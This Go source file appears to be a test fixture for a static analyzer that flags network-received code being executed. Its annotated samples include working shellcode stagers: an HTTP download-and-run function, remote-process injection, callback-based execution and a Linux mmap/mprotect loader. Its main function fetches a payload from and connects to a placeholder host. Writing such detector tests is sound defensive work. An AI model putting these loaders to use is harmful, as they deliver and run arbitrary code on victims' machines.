// Annotated samples for the dynamic-code pack (Go): shellcode stagers that receive code
// over the network and run it from memory, next to code that only stores what it receives.
package main

import (
	"crypto/sha256"
	_ "embed"
	"encoding/hex"
	"io"
	"net"
	"net/http"
	"os"
	"syscall"
	"unsafe"

	"golang.org/x/sys/windows"
)

var (
	kernel32               = windows.NewLazySystemDLL("kernel32.dll")
	ntdll                  = windows.NewLazySystemDLL("ntdll.dll")
	procCreateThread       = kernel32.NewProc("CreateThread")
	procCreateRemoteThread = kernel32.NewProc("CreateRemoteThread")
	procEnumSystemLocalesA = kernel32.NewProc("EnumSystemLocalesA")
	procRtlCopyMemory      = ntdll.NewProc("RtlCopyMemory")
)

//go:embed stub.bin
var stub []byte

// stage downloads shellcode, makes it executable and starts a thread on it.
func stage(url string) error {
	resp, err := http.Get(url)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	sc, err := io.ReadAll(resp.Body)
	if err != nil || len(sc) == 0 {
		return err
	}
	addr, err := windows.VirtualAlloc(0, uintptr(len(sc)), windows.MEM_COMMIT|windows.MEM_RESERVE, windows.PAGE_READWRITE)
	if err != nil {
		return err
	}
	procRtlCopyMemory.Call(addr, uintptr(unsafe.Pointer(&sc[0])), uintptr(len(sc)))
	var old uint32
	if err := windows.VirtualProtect(addr, uintptr(len(sc)), windows.PAGE_EXECUTE_READ, &old); err != nil { // want "dynamic-code/network-bytes-executed"
		return err
	}
	th, _, _ := procCreateThread.Call(0, 0, addr, 0, 0, 0) // want "dynamic-code/network-bytes-executed"
	windows.WaitForSingleObject(windows.Handle(th), windows.INFINITE)
	return nil
}

// inject writes code read from a socket into another process.
func inject(conn net.Conn, pid uint32) error {
	buf := make([]byte, 64*1024)
	n, err := conn.Read(buf)
	if err != nil {
		return err
	}
	sc := buf[:n]
	h, err := windows.OpenProcess(windows.PROCESS_ALL_ACCESS, false, pid)
	if err != nil {
		return err
	}
	defer windows.CloseHandle(h)
	remote, _, _ := kernel32.NewProc("VirtualAllocEx").Call(uintptr(h), 0, uintptr(n), windows.MEM_COMMIT|windows.MEM_RESERVE, windows.PAGE_EXECUTE_READWRITE)
	var written uintptr
	if err := windows.WriteProcessMemory(h, remote, &sc[0], uintptr(n), &written); err != nil { // want "dynamic-code/network-bytes-executed"
		return err
	}
	procCreateRemoteThread.Call(uintptr(h), 0, 0, remote, 0, 0, 0)
	return nil
}

// callback runs downloaded code as an EnumSystemLocalesA callback.
func callback(conn net.Conn) {
	sc, _ := io.ReadAll(conn)
	addr, _ := windows.VirtualAlloc(0, uintptr(len(sc)), windows.MEM_COMMIT|windows.MEM_RESERVE, windows.PAGE_EXECUTE_READWRITE)
	procRtlCopyMemory.Call(addr, uintptr(unsafe.Pointer(&sc[0])), uintptr(len(sc)))
	procEnumSystemLocalesA.Call(addr, 0) // want "dynamic-code/network-bytes-executed"
}

// linuxStage maps received bytes, makes the page executable and jumps to it.
func linuxStage(conn net.Conn) error {
	sc, err := io.ReadAll(conn)
	if err != nil {
		return err
	}
	page, err := syscall.Mmap(-1, 0, len(sc), syscall.PROT_READ|syscall.PROT_WRITE, syscall.MAP_ANON|syscall.MAP_PRIVATE)
	if err != nil {
		return err
	}
	copy(page, sc)
	if err := syscall.Mprotect(page, syscall.PROT_READ|syscall.PROT_EXEC); err != nil { // want "dynamic-code/network-bytes-executed"
		return err
	}
	entry := unsafe.Pointer(&page)
	fn := *(*func())(unsafe.Pointer(&entry))
	fn()
	return nil
}

// embedded runs a stub compiled into the binary: nothing came from the network.
func embedded() {
	addr, _ := windows.VirtualAlloc(0, uintptr(len(stub)), windows.MEM_COMMIT|windows.MEM_RESERVE, windows.PAGE_READWRITE)
	procRtlCopyMemory.Call(addr, uintptr(unsafe.Pointer(&stub[0])), uintptr(len(stub)))
	var old uint32
	windows.VirtualProtect(addr, uintptr(len(stub)), windows.PAGE_EXECUTE_READ, &old) // ok: the code is embedded, not received
	procCreateThread.Call(0, 0, addr, 0, 0, 0)                                        // ok: the code is embedded, not received
}

// quarantine stores received bytes on disk and checks their hash; nothing is executed.
func quarantine(conn net.Conn) error {
	data, err := io.ReadAll(conn)
	if err != nil {
		return err
	}
	sum := sha256.Sum256(data)
	name := hex.EncodeToString(sum[:])
	return os.WriteFile(`C:\ProgramData\Vendor\Quarantine\`+name, data, 0o600) // ok: stored, not executed
}

func main() {
	stage("http://198.51.100.99/a.bin")
	conn, err := net.Dial("tcp", "198.51.100.99:4443")
	if err != nil {
		return
	}
	inject(conn, 4242)
	callback(conn)
	linuxStage(conn)
	embedded()
	quarantine(conn)
}
